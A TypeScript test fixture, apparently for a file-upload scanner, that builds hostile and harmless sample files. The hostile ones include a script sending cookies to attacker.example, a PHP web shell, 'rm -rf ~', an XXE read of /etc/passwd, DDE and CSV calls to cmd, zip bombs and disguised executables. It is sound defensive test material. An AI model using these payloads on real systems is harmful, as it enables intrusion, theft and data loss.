import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { makePdf } from './pdf.ts';
import { docmMain, makeDocx, makeZip } from './zip.ts';

/** A file and what must be said of it; `refused` undefined: it must be kept. */
export interface Sample {
  what: string;
  name: string;
  bytes: Buffer;
  refused?: string;
  type?: string;
}

const eicar = 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const picture = () => sharp({ create: { width: 64, height: 48, channels: 3, background: '#0a7' } });
const program = Buffer.concat([Buffer.from('MZ\x90\0', 'latin1'), Buffer.alloc(400)]);
const compound = (name: string) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(name, 'utf16le'), Buffer.alloc(512)]);
const zeros = (size: number) => ({ bytes: deflateRawSync(Buffer.alloc(size), { level: 9 }), size, crc: 0 });

/** The text that every virus scanner knows as its test. */
export const virusTest = Buffer.from(eicar);

/** Files that hurt whoever opens, unpacks, scans or shows them, and those that people cannot read. */
export async function hostileFiles(): Promise<Sample[]> {
  const jpg = await picture().jpeg().toBuffer();
  const png = await picture().png().toBuffer();
  const wide = Buffer.from(png);
  wide.writeUInt32BE(60_000, 16);
  wide.writeUInt32BE(60_000, 20);
  const docx = makeZip(makeDocx());
  const bomb = { name: 'word/media/image1.xml', bytes: '', packed: zeros(400 * 1024 * 1024) };
  const svg = '<?xml version="1.0"?><!-- picture --><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
  const page = '<!doctype html><script>fetch("https://attacker.example/?"+document.cookie)</script>';
  const link = (type: string, target: string) =>
    `<Relationship Id="rId9" Type="{office}/${type}" Target="${target}" TargetMode="External"/>`;
  return [
    { what: 'a program', name: 'setup.exe', bytes: program, refused: 'executable' },
    { what: 'a program that is called a document', name: 'kimlik.pdf', bytes: program, refused: 'executable' },
    { what: 'a program for Linux', name: 'photo.jpg', bytes: Buffer.from('7f454c4602010100', 'hex'), refused: 'executable' },
    { what: 'a program for a Mac', name: 'photo.png', bytes: Buffer.from('cffaedfe07000001', 'hex'), refused: 'executable' },
    { what: 'a program for a phone', name: 'app.txt', bytes: Buffer.from('6465780a30333500', 'hex'), refused: 'executable' },
    { what: 'a shell script that is called a text', name: 'notes.txt', bytes: Buffer.from('#!/bin/sh\nrm -rf ~\n'), refused: 'executable' },
    { what: 'a script of Windows by its ending', name: 'fatura.vbs', bytes: Buffer.from('MsgBox 1'), refused: 'executable' },
    { what: 'a batch file', name: 'run.BAT', bytes: Buffer.from('@echo off'), refused: 'executable' },
    {
      what: 'a link of Windows',
      name: 'kimlik.jpg',
      bytes: Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
      refused: 'executable',
    },
    { what: 'an ending behind many spaces', name: `dekont.pdf${' '.repeat(120)}.exe`, bytes: Buffer.from('text'), refused: 'executable' },
    { what: 'an ending behind a zero byte', name: 'dekont.pdf\0.exe', bytes: makePdf(), refused: 'executable' },
    { what: 'a double ending that runs', name: 'dekont.pdf.scr', bytes: makePdf(), refused: 'executable' },
    { what: 'a double ending that is one rename away', name: 'dekont.exe.pdf', bytes: makePdf(), refused: 'name' },
    { what: 'a name that runs backwards', name: 'dekont\u202Efdp.txt', bytes: Buffer.from('text'), refused: 'name' },
    { what: 'a name with an isolate', name: 'dekont\u2067txt.pdf', bytes: makePdf(), refused: 'name' },
    { what: 'a name that climbs', name: '../../../etc/cron.d/job.txt', bytes: Buffer.from('* * * * *'), refused: 'name' },
    { what: 'a name that climbs the Windows way', name: '..\\..\\Startup\\a.txt', bytes: Buffer.from('text'), refused: 'name' },
    { what: 'a page', name: 'page.html', bytes: Buffer.from(page), refused: 'active' },
    { what: 'a page that is called a text', name: 'page.txt', bytes: Buffer.from(`\ufeff\n  ${page}`), refused: 'active' },
    { what: 'a page that is called a picture', name: 'photo.jpg', bytes: Buffer.from(page), refused: 'active' },
    { what: 'a vector picture with a script', name: 'logo.svg', bytes: Buffer.from(svg), refused: 'active' },
    { what: 'a vector picture that is called a photo', name: 'logo.png', bytes: Buffer.from(svg), refused: 'active' },
    { what: 'a PHP file', name: 'shell.txt', bytes: Buffer.from('<?php system($_GET[0]);'), refused: 'active' },
    { what: 'an archive', name: 'all.zip', bytes: makeZip([{ name: 'a.txt', bytes: 'a' }]), refused: 'archive' },
    {
      what: 'an archive with a password',
      name: 'all.zip',
      bytes: makeZip([{ name: 'a.txt', bytes: 'a', encrypted: true }]),
      refused: 'archive',
    },
    {
      what: 'an archive that is called a letter',
      name: 'letter.docx',
      bytes: makeZip([{ name: 'a.exe', bytes: 'MZ' }]),
      refused: 'archive',
    },
    { what: 'RAR', name: 'all.rar', bytes: Buffer.from('526172211a0701003392b5e5', 'hex'), refused: 'archive' },
    { what: '7z', name: 'photos.jpg', bytes: Buffer.from('377abcaf271c00040000000000000000', 'hex'), refused: 'archive' },
    { what: 'gzip', name: 'log.txt', bytes: gzipSync('log'), refused: 'archive' },
    { what: 'a bomb in a letter', name: 'letter.docx', bytes: makeZip(makeDocx({ more: [bomb] })), refused: 'bomb' },
    {
      what: 'a bomb of many parts',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ more: Array.from({ length: 4_000 }, (_, n) => ({ name: `word/media/${n}.xml`, bytes: 'x' })) })),
      refused: 'bomb',
    },
    {
      what: 'a bomb whose parts share their bytes',
      name: 'letter.docx',
      bytes: makeZip(
        makeDocx({ more: Array.from({ length: 200 }, (_, n) => ({ name: `word/media/${n}.xml`, bytes: '', packed: zeros(300_000) })) }),
        {
          overlap: true,
        },
      ),
      refused: 'bomb',
    },
    {
      what: 'a part that is larger than it says',
      name: 'letter.docx',
      bytes: makeZip(
        makeDocx().map((part) => (part.name === 'word/document.xml' ? { ...part, bytes: ' '.repeat(1_000_000), claims: 100 } : part)),
      ),
      refused: 'broken',
    },
    {
      what: 'archives in a letter',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ more: [{ name: 'word/embeddings/a.zip', bytes: makeZip([]) }] })),
      refused: 'bomb',
    },
    {
      what: 'letters in a letter in a letter',
      name: 'letter.docx',
      bytes: makeZip(
        makeDocx({
          more: [
            {
              name: 'word/embeddings/a.docx',
              bytes: makeZip(makeDocx({ more: [{ name: 'word/embeddings/b.docx', bytes: docx }] })),
            },
          ],
        }),
      ),
      refused: 'bomb',
    },
    {
      what: 'a letter with macros',
      name: 'letter.docm',
      bytes: makeZip(makeDocx({ main: docmMain, more: [{ name: 'word/vbaProject.bin', bytes: 'x' }] })),
      refused: 'macros',
    },
    {
      what: 'a letter with macros that is called plain',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ main: docmMain })),
      refused: 'macros',
    },
    {
      what: 'macros in a plain letter',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ more: [{ name: 'word/vbaProject.bin', bytes: 'x' }] })),
      refused: 'macros',
    },
    {
      what: 'macros in a letter in a letter',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ more: [{ name: 'word/embeddings/a.docm', bytes: makeZip(makeDocx({ main: docmMain })) }] })),
      refused: 'macros',
    },
    {
      what: 'ActiveX',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ more: [{ name: 'word/activeX/activeX1.xml', bytes: '<x/>' }] })),
      refused: 'macros',
    },
    {
      what: 'a field that calls a program',
      name: 'letter.docx',
      bytes: makeZip(
        makeDocx({ body: '<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText>' }),
      ),
      refused: 'macros',
    },
    {
      what: 'an object of another program',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ more: [{ name: 'word/embeddings/oleObject1.bin', bytes: 'x' }] })),
      refused: 'active',
    },
    {
      what: 'a template from elsewhere',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ links: link('attachedTemplate', 'https://attacker.example/a.dotm') })),
      refused: 'active',
    },
    {
      what: 'an entity from elsewhere',
      name: 'letter.docx',
      bytes: makeZip(
        makeDocx().map((part) =>
          part.name === 'word/document.xml'
            ? { ...part, bytes: `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${part.bytes}` }
            : part,
        ),
      ),
      refused: 'active',
    },
    {
      what: 'a way out of the folder',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ more: [{ name: '../../evil.txt', bytes: 'x' }] })),
      refused: 'broken',
    },
    { what: 'a letter that is cut off', name: 'letter.docx', bytes: docx.subarray(0, docx.length - 30), refused: 'broken' },
    { what: 'a letter with a password', name: 'letter.docx', bytes: compound('EncryptedPackage'), refused: 'encrypted' },
    {
      what: 'a letter with a password on its parts',
      name: 'letter.docx',
      bytes: makeZip(makeDocx().map((part) => ({ ...part, encrypted: true }))),
      refused: 'encrypted',
    },
    { what: 'an old letter with macros', name: 'letter.doc', bytes: compound('_VBA_PROJECT'), refused: 'macros' },
    { what: 'an old letter', name: 'letter.doc', bytes: compound('WordDocument'), refused: 'type' },
    { what: 'a PDF with a password', name: 'dekont.pdf', bytes: makePdf({ trailer: '/Encrypt 5 0 R' }), refused: 'encrypted' },
    {
      what: 'a PDF that writes "password" otherwise',
      name: 'dekont.pdf',
      bytes: makePdf({ trailer: '/#45ncrypt 5 0 R' }),
      refused: 'encrypted',
    },
    {
      what: 'a PDF with a script',
      name: 'dekont.pdf',
      bytes: makePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>' }),
      refused: 'active',
    },
    {
      what: 'a PDF that writes "script" otherwise',
      name: 'dekont.pdf',
      bytes: makePdf({ catalog: '/OpenAction << /S /J#61va#53cript /JS (app.alert(1)) >>' }),
      refused: 'active',
    },
    {
      what: 'a PDF that starts a program',
      name: 'dekont.pdf',
      bytes: makePdf({ objects: ['<< /S /Launch /F (cmd.exe) >>'] }),
      refused: 'active',
    },
    {
      what: 'a PDF with a script in a packed list',
      name: 'dekont.pdf',
      bytes: makePdf({ packed: '4 0 << /S /JavaScript /JS (app.alert(1)) >>' }),
      refused: 'active',
    },
    { what: 'a PDF with a bomb in a packed list', name: 'dekont.pdf', bytes: makePdf({ packed: ' '.repeat(8_000_000) }), refused: 'bomb' },
    {
      what: 'a PDF that is an archive too',
      name: 'dekont.pdf',
      bytes: Buffer.concat([makePdf(), makeZip([{ name: 'a.exe', bytes: 'MZ' }])]),
      refused: 'polyglot',
    },
    { what: 'a PDF that is a page too', name: 'dekont.pdf', bytes: Buffer.from(`%PDF-1.7\n${page}\n%%EOF`), refused: 'polyglot' },
    { what: 'a PDF behind something else', name: 'dekont.pdf', bytes: makePdf({ head: 'GIF89a;' }), refused: 'polyglot' },
    { what: 'a PDF that is cut off', name: 'dekont.pdf', bytes: makePdf().subarray(0, 150), refused: 'broken' },
    { what: 'a PDF that is called a photo', name: 'kimlik.jpg', bytes: makePdf(), refused: 'mismatch' },
    { what: 'a photo that is called a PDF', name: 'kimlik.pdf', bytes: jpg, refused: 'mismatch' },
    {
      what: 'a photo that is an archive too',
      name: 'photo.jpg',
      bytes: Buffer.concat([jpg, makeZip([{ name: 'a.exe', bytes: 'MZ' }])]),
      refused: 'polyglot',
    },
    {
      what: 'a photo with a page in it',
      name: 'photo.png',
      bytes: Buffer.concat([png, Buffer.from('<script>alert(1)</script>')]),
      refused: 'polyglot',
    },
    {
      what: 'a photo with PHP in it',
      name: 'photo.jpg',
      bytes: Buffer.concat([jpg, Buffer.from('<?php system(1);')]),
      refused: 'polyglot',
    },
    {
      what: 'a letter that is a PDF too',
      name: 'letter.docx',
      bytes: makeZip([{ name: '%PDF-1.7', bytes: 'x' }, ...makeDocx()]),
      refused: 'polyglot',
    },
    { what: 'a picture of 3,600 megapixels', name: 'photo.png', bytes: wide, refused: 'bomb' },
    { what: 'a photo that is cut off before its size', name: 'photo.jpg', bytes: jpg.subarray(0, 20), refused: 'broken' },
    {
      what: 'bytes without sense that are called a photo',
      name: 'photo.jpg',
      bytes: Buffer.from('0102030405060708', 'hex'),
      refused: 'mismatch',
    },
    { what: 'bytes without sense that are called a text', name: 'a.txt', bytes: Buffer.from('00010203ff', 'hex'), refused: 'mismatch' },
    { what: 'a film', name: 'film.mp4', bytes: Buffer.from('00000018667479706d70343200000000', 'hex'), refused: 'type' },
    { what: 'winmail.dat', name: 'winmail.dat', bytes: Buffer.from('789f3e2200000000', 'hex'), refused: 'tnef' },
    { what: 'nothing', name: 'empty.pdf', bytes: Buffer.alloc(0), refused: 'empty' },
    { what: 'a table that calls a program', name: 'table.csv', bytes: Buffer.from("a,b\n=cmd|'/c calc'!A1,2\n"), refused: 'macros' },
  ];
}

/** What people send every day, and odd files that are harmless. */
export async function harmlessFiles(): Promise<Sample[]> {
  const jpg = await picture()
    .withMetadata({ exif: { IFD0: { Artist: 'Somebody' } } })
    .jpeg()
    .toBuffer();
  const film = Buffer.concat([jpg, Buffer.from('00000018667479706d703432', 'hex'), Buffer.alloc(5000, 7)]);
  return [
    { what: 'a PDF', name: 'dekont.pdf', bytes: makePdf(), type: 'application/pdf' },
    { what: 'a PDF with packed objects', name: 'dekont.pdf', bytes: makePdf({ packed: '4 0 << /Type /Font >>' }), type: 'application/pdf' },
    {
      what: 'a PDF with packed pictures',
      name: 'tarama.pdf',
      bytes: makePdf({ objects: [`<< /Length 9 >>\nstream\n${deflateSync(jpg).toString('latin1')}\nendstream`] }),
      type: 'application/pdf',
    },
    { what: 'a photo', name: 'kimlik ön yüz.jpg', bytes: jpg, type: 'image/jpeg' },
    { what: 'a photo with a film behind it', name: 'IMG_1.jpg', bytes: film, type: 'image/jpeg' },
    { what: 'a screenshot', name: 'Ekran görüntüsü 2026-11-22.png', bytes: await picture().png().toBuffer(), type: 'image/png' },
    { what: 'a photo that is called a screenshot', name: 'photo.png', bytes: jpg, type: 'image/jpeg' },
    { what: 'a photo without an ending', name: 'photo', bytes: jpg, type: 'image/jpeg' },
    { what: 'a photo with its path', name: 'C:\\Users\\Əli\\Şəkillər\\vəsiqə.jpg', bytes: jpg, type: 'image/jpeg' },
    { what: 'a brand in the name', name: 'demobet.com.pdf', bytes: makePdf(), type: 'application/pdf' },
    { what: 'WebP', name: 'a.webp', bytes: await picture().webp().toBuffer(), type: 'image/webp' },
    { what: 'WebP without loss', name: 'a.webp', bytes: await picture().webp({ lossless: true }).toBuffer(), type: 'image/webp' },
    {
      what: 'a photo of an iPhone',
      name: 'IMG_2.HEIC',
      bytes: Buffer.from('000000186674797068656963000000006d69663168656963', 'hex'),
      type: 'image/heic',
    },
    {
      what: 'a letter',
      name: 'şikayət.docx',
      bytes: makeZip(makeDocx()),
      type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    },
    {
      what: 'a letter with a table of figures',
      name: 'letter.docx',
      bytes: makeZip(makeDocx({ more: [{ name: 'word/embeddings/a.docx', bytes: makeZip(makeDocx()) }] })),
    },
    { what: 'text in UTF-8', name: 'qeyd.txt', bytes: Buffer.from('Əmanətim gəlmədi\n'), type: 'text/plain' },
    {
      what: 'text in windows-1254',
      name: 'not.txt',
      bytes: Buffer.from([0x50, 0x61, 0x72, 0x61, 0x6d, 0xfd, 0x20, 0xe7, 0x65, 0x6b, 0x0d, 0x0a]),
      type: 'text/plain',
    },
    { what: 'text in UTF-16', name: 'not.txt', bytes: Buffer.from('\ufeffPara çekme', 'utf16le'), type: 'text/plain' },
    { what: 'text that is about pages', name: 'hata.txt', bytes: Buffer.from('Sayfada <script> hatası görüyorum\n'), type: 'text/plain' },
    { what: 'text that ends as a virus test', name: 'a.txt', bytes: virusTest, type: 'text/plain' },
  ];
}
